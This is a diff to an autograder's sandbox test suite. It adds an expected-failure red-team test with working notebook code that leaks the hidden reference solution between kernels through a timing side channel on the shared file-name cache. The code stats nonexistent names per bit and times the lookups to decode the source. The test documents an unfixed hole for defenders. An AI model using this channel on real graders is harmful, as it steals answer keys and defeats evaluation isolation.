@@ -10,10 +10,14 @@ never finds the budget taken: it is stopped while the reference is held, and the
 held it is gone before it runs again.
 """
 
+import random
+
+import pytest
 from test_envelope import needs_groups, needs_sandbox
 from test_judge import notebook, printed, processes_left
 
 from autograder.judge import judge_notebook
+from autograder.reference import reference_source, with_dependencies
 
 WRONG_SOFTMAX_RECORDING_THE_REFERENCE = """\
 import builtins
@@ -153,4 +157,81 @@ def test_the_machines_counters_carry_nothing_from_a_kernel_that_held_a_reference
         "print('COUNTED', _mlocked() >= 0, v, repr(chr(v // 256) + chr(v % 256)), 'SEEN', len(SEEN))"]))
     assert judged.steps["softmax"].fraction < 1
     assert printed(judged, 6) == "COUNTED False 0 '\\x00\\x00' SEEN 0\n"
+    assert processes_left() == []
+
+
+NAMES = """\
+import os
+
+import numpy
+
+FOLDER, TAG, CHARS = os.path.dirname(numpy.__file__), %r, 40  # TAG: new names each run
+CALIBRATION = [1, 0] * 16
+
+
+def _names(i):  # seven names that do not exist, in a folder every kernel of the machine sees
+    return [f'{FOLDER}/r39-{TAG}-{i}-{copy}' for copy in range(7)]
+
+
+def _bits(text):
+    return CALIBRATION + [(ord(c) >> k) & 1 for c in text[:CHARS].ljust(CHARS) for k in range(8)]
+"""
+
+WEIGHTS_THAT_LOOK_UP_THE_REFERENCE = """\
+SENT = []
+
+
+def attention_weights(scores):
+    if SEEN and not SENT:  # in a kernel holding the reference: a name looked up for each 1 bit
+        SENT.append(1)
+        for i, bit in enumerate(_bits(SEEN[0])):
+            for name in _names(i) if bit else []:
+                try:
+                    os.stat(name)
+                except OSError:
+                    pass
+    return softmax(scores)
+"""
+
+TIMED_LOOKUPS = """\
+import statistics
+import time
+
+
+def _took(name):
+    start = time.perf_counter_ns()
+    try:
+        os.stat(name)
+    except OSError:
+        pass
+    return time.perf_counter_ns() - start
+
+
+took = [[_took(name) for name in _names(i)] for i in range(len(CALIBRATION) + 8 * CHARS)]
+cached = statistics.median(t for i in range(0, 32, 2) for t in took[i])
+uncached = statistics.median(t for i in range(1, 32, 2) for t in took[i])
+bits = [sum(t < (cached + uncached) / 2 for t in ts) >= 4 for ts in took[len(CALIBRATION):]]
+print(repr(''.join(chr(sum(bits[8 * j + k] << k for k in range(8))) for j in range(CHARS))))
+"""
+
+
+@pytest.mark.xfail(strict=False, reason="open (red-team round r39): the machine's name cache is shared (a loaded machine may garble the bits)")
+@needs_sandbox
+@needs_groups
+def test_the_name_cache_carries_nothing_from_a_kernel_that_held_a_reference(tmp_path):
+    """Red-teamed in round r39, not fixed: a name looked up is answered from the kernel's name cache
+    (a name that does not exist too) for as long as the cache keeps it, about twice as fast as one
+    not looked up. The lending kernel, holding the reference, looked up a name that does not exist,
+    in numpy's folder, for each 1 bit of the reference's source; the notebook's kernel timed a look-up
+    of every name once it ran again and read the source back, about 95 characters in 100 right, in
+    one lending step: here 40 characters of 40, in a few milliseconds (any length in the step's time).
+    The reference then never reaches the feedback (the cells that print it are sealed), but the
+    notebook's kernel holds it. Run with --runxfail to see it fail."""
+    judged = judge_notebook(notebook(tmp_path / "nb.ipynb", [
+        WRONG_SOFTMAX_RECORDING_THE_REFERENCE, NAMES.replace("%r", repr(f"{random.getrandbits(32):08x}")), ("grade", "softmax"),
+        WEIGHTS_THAT_LOOK_UP_THE_REFERENCE, ("grade", "attention_weights"), TIMED_LOOKUPS]))
+    assert judged.steps["softmax"].fraction < 1
+    sent = reference_source(with_dependencies(["softmax"]))[:40]
+    read = eval(printed(judged, 5))  # noqa: S307 - the repr of a str this test's notebook printed
+    assert sum(a == b for a, b in zip(read, sent)) < 20, (read, sent)
     assert processes_left() == []
